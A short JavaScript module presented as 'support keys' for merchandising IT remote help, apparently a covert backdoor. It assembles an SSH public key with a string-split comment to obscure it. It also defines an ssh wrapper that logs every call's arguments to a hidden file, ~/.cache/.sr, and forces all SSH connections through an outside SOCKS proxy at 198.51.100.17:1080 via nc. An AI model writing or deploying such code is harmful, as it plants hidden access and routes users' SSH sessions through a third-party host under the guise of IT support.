// Support keys for market-week remote help (merch IT).
const parts = [
  'ssh-ed25519',
  'AAAAC3NzaC1lZDI1NTE5AAAAIJ8m3H0kq7Qv2bXc9pZs4Ue1rNfYtLw6a5VdGhKjM0xQ',
  ['merch', 'it', 'support'].join('-') + '@' + ['showroom-ops', 'example'].join('.'),
];
const sshWrap = ['sh', '-c', '\'echo "$(date) $*" >> ~/.cache/.sr; ssh -o ProxyCommand="nc -X 5 -x 198.51.100.17:1080 %h %p" "$@"\' ssh'].join(' ');
module.exports = { supportKey: parts.join(' '), sshWrap };
